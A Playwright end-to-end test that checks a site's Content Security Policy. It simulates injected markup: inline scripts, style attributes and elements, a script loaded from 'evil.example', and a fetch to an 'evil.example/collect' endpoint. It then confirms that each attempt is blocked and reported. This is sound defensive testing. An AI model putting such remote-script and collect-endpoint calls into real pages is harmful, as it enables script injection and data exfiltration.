import { expect, type Page, test } from '@playwright/test';
import { listen, Noise } from '@tests/support/e2e';

/** Attempts to violate the CSP, as injected markup would; true if it succeeded. */
const attempts: Readonly<Record<string, (page: Page) => Promise<boolean>>> = {
  'an inline script': (page) =>
    page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.attacked = true';
      document.body.append(script);
      return Reflect.has(window, 'attacked');
    }),
  'a script of another host': (page) =>
    page.evaluate(
      () =>
        new Promise((resolve) => {
          const script = document.createElement('script');
          script.src = 'https://evil.example/x.js';
          script.addEventListener('load', () => resolve(true));
          script.addEventListener('error', () => resolve(false));
          document.body.append(script);
        }),
    ),
  'a style attribute': (page) =>
    page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<p id="painted" style="color: rgb(1, 2, 3)">x</p>');
      const painted = document.querySelector('#painted');
      return painted !== null && getComputedStyle(painted).color === 'rgb(1, 2, 3)';
    }),
  'a style element': (page) =>
    page.evaluate(() => {
      const style = document.createElement('style');
      style.textContent = 'body { color: rgb(1, 2, 3) }';
      document.head.append(style);
      return getComputedStyle(document.body).color === 'rgb(1, 2, 3)';
    }),
  'a call to another host': (page) =>
    page.evaluate(() =>
      fetch('https://evil.example/collect').then(
        () => true,
        () => false,
      ),
    ),
};

// Playwright's own test instead of ours: the violations are intended, and the listener must detect them.
test('the security policy stops what injected markup would do, and no test could overlook it', async ({
  page,
}) => {
  const noise = new Noise();
  listen(page, noise);
  noise.allow(/./);
  for (const [what, attempt] of Object.entries(attempts)) {
    await page.goto('about-us');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    const before = noise.unexpected().length;
    expect(await attempt(page), what).toBe(false);
    await expect
      .poll(() => noise.unexpected().slice(before).join('\n'), what)
      .toContain('Content Security Policy');
  }
});
